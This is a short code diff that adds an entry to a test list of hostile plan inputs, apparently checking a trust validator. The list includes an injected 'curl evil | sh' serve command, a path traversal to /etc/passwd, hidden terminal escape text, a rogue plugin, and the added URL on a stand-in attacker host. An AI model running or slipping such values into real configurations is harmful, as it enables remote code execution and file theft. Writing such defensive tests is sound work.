@@ -23,6 +23,7 @@ HOSTILE_PLANS = [
     ({"delivery": Delivery(serve_command="vllm serve x; curl evil | sh")}, "trust.serve_command"),
     ({"output_dir": "runs\x1b[31m"}, "trust.hidden_text"),
     ({"dataset": DatasetRef(source="../../../etc/passwd")}, "trust.leads_out"),
+    ({"dataset": DatasetRef(source="https://evil.example/x.jsonl")}, "trust.leads_out"),
     ({"delivery": Delivery(serve_command="vllm serve x --tool-parser-plugin evil.py")}, "trust.serve_command"),
 ]
 
